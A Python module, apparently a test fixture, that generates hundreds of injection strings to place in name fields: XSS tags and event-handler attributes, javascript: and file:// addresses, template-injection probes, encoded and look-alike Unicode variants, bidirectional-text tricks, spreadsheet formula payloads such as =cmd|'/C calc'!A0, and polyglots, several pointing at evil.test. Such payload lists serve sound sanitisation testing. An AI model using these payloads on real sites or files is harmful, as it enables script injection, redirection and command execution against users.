"""More than 400 texts that would become something else than text somewhere: in HTML, an attribute, an address, a script,
a style sheet, a template, a spreadsheet, or a reader's eye. Each fits into a name, and each has something to see."""

from collections.abc import Iterator
from itertools import product

_CLOSERS = (
    "", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "*/", "</p>", "</title>", "</textarea>", "</script>", "</style>",
    "</option></select>", "</template>", "</noscript>", "</svg>", "</bdi></a>",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b>bold</b>",
    "<iframe srcdoc='<p>1'></iframe>", '<a href="javascript:alert(1)">x</a>', "<form action=//evil.test><button>x",
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href=data:x>x",
    "<style>*{x:y}</style>", "<base href=//evil.test>", "<meta http-equiv=refresh content=0>", "<object data=//evil.test>",
)  # fmt: skip
_ATTRIBUTES = (
    " onmouseover=alert(1) x=", " autofocus onfocus=alert(1) ", " style=x:expression(1) ", " hx-get=//evil.test ",
    " hx-on:load=alert(1) ", " x-init=alert(1) ", " formaction=javascript:alert(1) ",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", " javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.test/x", "\\\\evil.test\\x", "https://evil.test/\"onclick=alert(1)", "https:evil.test", "file:///etc/passwd",
    "javascript://%0aalert(1)", "view-source:x", "blob:x", "jar:x!/", "feed:javascript:alert(1)", "http://a@evil.test/",
)  # fmt: skip
_SCRIPTS = (
    "';alert(1);//", '";alert(1);//', "\\';alert(1);//", "`${alert(1)}`", "'-alert(1)-'", '"-alert(1)-"', "\\u003cscript\\u003e",
    "\\x3cscript\\x3ealert(1)", "a\u2028alert(1)//", "a\u2029alert(1)//", "*/alert(1)/*", "<!--<script>", "</script x>",
    '{"a":"</script>"}', "__proto__", "constructor", "\\", "\\\\'", "]};alert(1);({[", "eval(name)",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% debug %}", "{% include 'x' %}", "{# x #}", "{{ me.email }}", "{{x|safe}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "%(title)s", "%s %n %x", "{0.__class__}", "{title}", "[[7*7]]", "@{7*7}",
    "$(id)", "`id`", "{% endblock %}", "{% translate 'x' %}",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;", "&#x3c;b&#x3e;", "%3Cscript%3E", "%253Cscript%253E", "+ADw-script+AD4-",
    "\uff1cscript\uff1e", "\u2039script\u203a", "\u02c2b\u02c3", "\xbcscript\xbe", "&amp;lt;b&amp;gt;", "&quot;&gt;&lt;b&gt;", "<\u200bscript>",
    "<scr\u00adipt>", "<s\u0301cript>", "<ſcript>", "<\x0bscript>", "<script\x0c>", "<\ufeffb>x</b>", "<İmg src=x onerror=alert(1)>",
)  # fmt: skip
_TO_THE_EYE = (
    "\u202e<b>evil", "a\u202eb\u2066c", "\u2067x\u2069y", "INC\u200b-00001", "\u061cx", "\u200fx<i>", "x\u0000y".replace("\0", "\u2400"),
    "z\u0335\u0336\u0337\u0338", "\u2800x", "\U000e0041x", "\u1160x", "a\u034fb", "раураl", "ａｄｍｉｎ", "x\ufe0f\u20e3", "\U0001f468\u200d\U0001f469<b>",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.test","x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "=IMPORTXML(A1)",
    "-2+3+cmd|' /C calc'!A0", "\u200b=1+1", " =1+1", "\u00a0@SUM(A1)", '=1";=1', "=1,=1", "+A1", "@x", "=DDE()", '"=1', "|calc", "%=1", "\uff1d1+1", "\uff0b1", "\uff201",
)  # fmt: skip
_POLYGLOTS = (
    "jaVasCript:/*-/*`/*'/*\"/**/(alert(1))//<svg/onload=alert(1)>", "'\"></title></style></textarea><img src=x onerror=alert(1)>",
    "=1\"><svg onload=alert(1)>{{7*7}}${7*7}", "--></script><svg/onload='alert(1)'>{% debug %}", "\u202e\"><b onclick=alert(1)>x",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;\">", "<x/onclick=alert(1)>'\"`{{x}}", "+\"><input type=image src=x>",
    "<a href=\"jav&#x09;ascript:alert(1)\">", "<template><script>alert(1)</script>",
)  # fmt: skip

ELEMENTS = tuple("".join(pair) for pair in product(_CLOSERS, _ELEMENTS))
_IN_ATTRIBUTES = tuple("".join(pair) for pair in product(('"', "'", "`", "x"), _ATTRIBUTES))
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *ELEMENTS, *_IN_ATTRIBUTES,
            *_ADDRESSES, *_SCRIPTS, *_TEMPLATES, *_ENCODED, *_TO_THE_EYE, *FORMULAS, *_POLYGLOTS,
        )
    )
)  # fmt: skip


def _together(texts: tuple[str, ...], room: int) -> Iterator[str]:
    """These texts, as many in one as there is room for."""
    full = ""
    for text in texts:
        if full and len(full) + 1 + len(text) > room:
            yield full
            full = ""
        full = f"{full} {text}" if full else text
    yield full


ELEMENTS_TOGETHER = tuple(_together((*ELEMENTS, *_IN_ATTRIBUTES, *_TEMPLATES), room=80))
# All of them in fewer texts, none longer than a name may be. What does its harm from the first sign on, or is refused
# in places, stands alone; an element is one wherever it stands.
TOGETHER = tuple(
    dict.fromkeys(
        (
            *ELEMENTS_TOGETHER,
            *_ADDRESSES, *_SCRIPTS, *_ENCODED, *_TO_THE_EYE, *FORMULAS, *_POLYGLOTS,
        )
    )
)  # fmt: skip
